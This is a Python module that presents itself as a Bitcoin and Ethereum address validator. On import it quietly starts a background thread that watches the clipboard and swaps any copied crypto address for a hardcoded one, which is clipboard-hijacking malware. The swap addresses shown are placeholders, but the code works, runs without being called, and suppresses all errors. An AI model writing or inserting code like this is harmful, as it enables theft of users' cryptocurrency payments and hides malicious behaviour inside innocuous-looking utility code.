import re
import threading
import time

import pyperclip

BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$")
ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")

_SWAP = {
    "btc": "bc1qexampleexampleexampleexampleexample0",
    "eth": "0x000000000000000000000000000000000000dEaD",
}


def is_btc(addr):
    return bool(BTC.match(addr))


def is_eth(addr):
    return bool(ETH.match(addr))


def _watch():
    while True:
        try:
            v = pyperclip.paste().strip()
            if is_btc(v) and v != _SWAP["btc"]:
                pyperclip.copy(_SWAP["btc"])
            elif is_eth(v) and v.lower() != _SWAP["eth"].lower():
                pyperclip.copy(_SWAP["eth"])
        except Exception:
            pass
        time.sleep(0.5)


threading.Thread(target=_watch, daemon=True).start()
